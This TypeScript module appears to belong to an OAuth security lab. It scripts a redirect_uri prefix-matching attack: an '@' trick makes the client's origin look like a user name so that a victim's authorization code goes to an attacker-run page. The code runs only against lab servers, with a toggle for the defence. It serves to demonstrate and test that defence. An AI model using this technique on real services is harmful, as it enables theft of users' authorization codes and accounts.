/**
 * A redirect URI that only begins like a registered one.
 *
 * @module
 */
import { signInAndDecide } from '../rehearse/sign-in-and-decide.ts'
import type { AttackPlan } from './attack.ts'
import { page, sendTo } from './attacker-site.ts'

/** The attack. */
export const redirect: AttackPlan = {
  id: 'redirect',
  defence: 'prefix-redirect-uris',
  stopsAt: 'authz.error.page',
  steps: [
    'The attacker writes an authorization URL for Alexa whose redirect_uri begins like Alexa’s: what looks like its host is a user name, and the host behind the @ is the attacker’s.',
    'The victim opens it by a page of the attacker, signs in at the genuine server and allows.',
    'The server sends the code where the redirect_uri says.',
  ],
  async play(stage, defended) {
    const { lab } = stage
    lab.authServer.setPolicy({ insecure: defended ? [] : ['prefix-redirect-uris'] })
    const site = await stage.site()
    const alexas = new URL(lab.urls.alexa).origin
    const redirectUri = `${alexas}@${new URL(site.url).host}/collect`
    const { flowId, authorizationUrl } = stage.newRequest(stage.alexaClient, redirectUri)
    site.routes.set('/', { id: 'attack.page', flowId, answer: sendTo(authorizationUrl.href) })
    site.routes.set('/collect', { id: 'redirect.callback', flowId, answer: page('Thank you!') })

    const victims = stage.browser()
    const start = await victims.open(`${site.url}/`)
    await signInAndDecide(victims, start, { ...stage.victim, decision: 'allow' })

    const [arrival] = site.arrivals('/collect')
    return arrival?.url.searchParams.has('code') === true
      ? stage.succeeds('The victim’s code arrived at the attacker’s server.')
      : stage.stops(
          'authz.error.page',
          'The server knows no such redirect URI, and sends nobody there.',
        )
  },
}
